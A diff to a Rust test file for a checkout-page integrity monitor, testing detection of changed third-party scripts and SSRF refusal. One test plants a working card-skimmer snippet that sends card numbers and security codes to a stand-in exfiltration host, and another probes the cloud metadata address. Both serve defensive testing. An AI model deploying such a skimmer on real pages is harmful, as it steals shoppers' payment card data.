@@ -327,6 +327,98 @@ async fn total_web_shop_2025_each_checkout_page_tampering_is_detected_and_a_clea
     assert!(kinds_logged.iter().any(|k| k == "page.script_authorise"));
 }
 
+/// PCI DSS 11.6.1 for third-party scripts: the monitor fetches each external
+/// script's body, so a script changed at the same address (the Magecart
+/// pattern: a compromised CDN or vendor) is found by its hash, and a skimmer
+/// in it by the built-in signatures, although the page's HTML is the same.
+async fn a_script_changed_at_the_same_address_is_found_by_its_hash_and_signatures(app: TestApp) {
+    let (tenant, _, _) = app.tenant_with_shop("Script hash shop").await;
+    let html = "<!doctype html><html><head><script src=\"/js/loader.js\"></script></head><body>\
+                <form action=\"/order/confirm\" method=\"post\"></form></body></html>"
+        .to_owned();
+    let (site, base) = serve_site(html, "window.shop = {currency: 'JPY'};\n").await;
+    let page = register(&app, &tenant, &format!("{base}/checkout"), "http").await;
+    let id = page["id"].as_str().expect("id").to_owned();
+    let first = check(&app, &id).await;
+    let script = &first["inventory"]["scripts"][0];
+    assert_eq!(script["length"], 33, "{script}");
+    assert!(
+        script["sha384"]
+            .as_str()
+            .is_some_and(|h| h.starts_with("sha384-")),
+        "{script}"
+    );
+    authorise_all(&app, &id, &first).await;
+    assert!(kinds(&check(&app, &id).await).is_empty());
+
+    let skimmer = "window.shop = {currency: 'JPY'};\n\
+        document.addEventListener('submit', function () {\n\
+          var d = ['card_number', 'security_code'].map(function (n) { return document.getElementsByName(n)[0].value; });\n\
+          new Image().src = 'https://jquery-cdn-cloud.example/pixel.gif?d=' + btoa(d.join('|'));\n\
+        }, true);\n";
+    *site.loader.lock().expect("lock") = skimmer.to_owned();
+    let result = check(&app, &id).await;
+    let found = kinds(&result);
+    assert!(
+        found.contains(&("page_script_changed".to_owned(), "critical".to_owned())),
+        "{result}"
+    );
+    assert!(
+        found.iter().any(|(kind, _)| kind == "page_script_signature"),
+        "{result}"
+    );
+    let lines = result["findings"].to_string();
+    assert!(lines.contains("skimmer.card-exfiltration"), "{lines}");
+    // The signature alert is in the alert list once, however often the page is checked.
+    check(&app, &id).await;
+    let raised: Vec<Value> = alerts(&app)
+        .await
+        .into_iter()
+        .filter(|a| a["kind"] == "page_script_signature")
+        .collect();
+    assert_eq!(raised.len(), 1, "{raised:?}");
+
+    // An authorised script that is merely updated: a change, no signature.
+    *site.loader.lock().expect("lock") = "window.shop = {currency: 'USD'};\n".to_owned();
+    let result = check(&app, &id).await;
+    assert_eq!(
+        kinds(&result),
+        vec![("page_script_changed".to_owned(), "critical".to_owned())],
+        "{result}"
+    );
+}
+
+/// The monitor refuses private, loopback and metadata addresses unless
+/// their network is allowed (the harness allows loopback for the tests).
+async fn a_page_on_a_private_address_is_refused_by_default(app: TestApp) {
+    let (tenant, _, _) = app.tenant_with_shop("SSRF shop").await;
+    let (_, base) = serve_site(checkout_page(), "").await;
+    app.app.allow_page_networks(Vec::new());
+    for url in [
+        format!("{base}/checkout"),
+        "http://169.254.169.254/latest/meta-data/".to_owned(),
+    ] {
+        let page = register(&app, &tenant, &url, "http").await;
+        let (status, result) = app
+            .call(
+                Method::POST,
+                &format!("/v1/pages/{}/check", page["id"].as_str().expect("id")),
+                Some(&app.operator_key),
+                None,
+            )
+            .await;
+        assert_eq!(status, StatusCode::OK);
+        assert_eq!(result["status"], "page_address_denied", "{result}");
+        assert!(result["inventory"].is_null());
+    }
+    assert!(alerts(&app).await.iter().any(|a| {
+        a["kind"] == "page_fetch_failed"
+            && a["summary"]
+                .as_str()
+                .is_some_and(|s| s.contains("page_address_denied"))
+    }));
+}
+
 async fn bad_registrations_are_refused_and_pages_are_tenant_scoped(app: TestApp) {
     let (tenant, _, _) = app.tenant_with_shop("Scoped shop").await;
     let (other, _, _) = app.tenant_with_shop("Other shop").await;
@@ -535,6 +627,8 @@ both_backends!(
     total_web_shop_2025_each_checkout_page_tampering_is_detected_and_a_clean_page_raises_nothing,
     bad_registrations_are_refused_and_pages_are_tenant_scoped,
     csp_reports_alert_once_per_new_destination,
+    a_script_changed_at_the_same_address_is_found_by_its_hash_and_signatures,
+    a_page_on_a_private_address_is_refused_by_default,
 );
 
 /// Headless Chromium sees the script `/js/loader.js` inserts after load, and
@@ -566,14 +660,78 @@ async fn browser_mode_sees_scripts_inserted_at_run_time() {
 
     *site.loader.lock().expect("lock") = inserter("skim.js");
     let result = check(&app, &id).await;
+    // The loader itself changed at the same address (its body's hash), and what it inserts is new.
     assert_eq!(
         kinds(&result),
-        vec![("page_script_added".to_owned(), "critical".to_owned())],
+        vec![
+            ("page_script_changed".to_owned(), "critical".to_owned()),
+            ("page_script_added".to_owned(), "critical".to_owned())
+        ],
         "{result}"
     );
-    let line = result["findings"][0]["lines"][0].as_str().expect("line");
+    let line = result["findings"][1]["lines"][0].as_str().expect("line");
     assert!(
         line.contains("/js/skim.js") && line.contains("inserted at run time"),
         "{line}"
+    );
+}
+
+/// Browser mode's SSRF guard: Chromium reaches the network only through the
+/// monitor's proxy, so a script the page pulls from a network that is not
+/// allowed never runs. The page (on 127.0.0.1) inserts a loader from
+/// 127.0.0.2, and the loader inserts `/js/analytics.js`: with all of loopback
+/// allowed the analytics script is seen; with only 127.0.0.1 it is not, as
+/// the loader was refused.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn browser_mode_reaches_only_allowed_networks() {
+    let app = TestApp::new(crate::harness::Backend::Sqlite)
+        .await
+        .expect("sqlite");
+    let (tenant, _, _) = app.tenant_with_shop("Browser SSRF shop").await;
+    let other = tokio::net::TcpListener::bind(("127.0.0.2", 0))
+        .await
+        .expect("bind 127.0.0.2");
+    let other_addr = other.local_addr().expect("addr");
+    let loader = axum::Router::new().route(
+        "/js/loader.js",
+        axum::routing::get(|| async {
+            (
+                [("content-type", "text/javascript")],
+                "var s = document.createElement('script'); s.src = '/js/analytics.js'; document.head.appendChild(s);",
+            )
+        }),
+    );
+    tokio::spawn(async move { axum::serve(other, loader).await });
+    let html = format!(
+        "<!doctype html><html><head><script>var s = document.createElement('script'); \
+         s.src = 'http://{other_addr}/js/loader.js'; document.head.appendChild(s);</script></head></html>"
+    );
+    let (site, base) = serve_site(html.clone(), "").await;
+    // A policy that lets the page load scripts from anywhere: only the monitor's guard stops them.
+    site.set(html, "script-src * 'unsafe-inline'");
+    let page = register(&app, &tenant, &format!("{base}/checkout"), "browser").await;
+    let id = page["id"].as_str().expect("id").to_owned();
+    let runtime = |result: &Value| -> Vec<String> {
+        result["inventory"]["scripts"]
+            .as_array()
+            .expect("scripts")
+            .iter()
+            .filter(|s| s["runtime"] == true)
+            .filter_map(|s| s["src"].as_str().map(str::to_owned))
+            .collect()
+    };
+    let analytics = format!("{base}/js/analytics.js");
+    let open = runtime(&check(&app, &id).await);
+    assert!(
+        open.contains(&analytics),
+        "the loader ran with loopback allowed: {open:?}"
+    );
+
+    let own = anshin::access::cidr::Cidr::parse("127.0.0.1/32").expect("cidr");
+    app.app.allow_page_networks(vec![own]);
+    let guarded = runtime(&check(&app, &id).await);
+    assert!(
+        !guarded.contains(&analytics),
+        "a script from 127.0.0.2 ran: {guarded:?}"
     );
 }
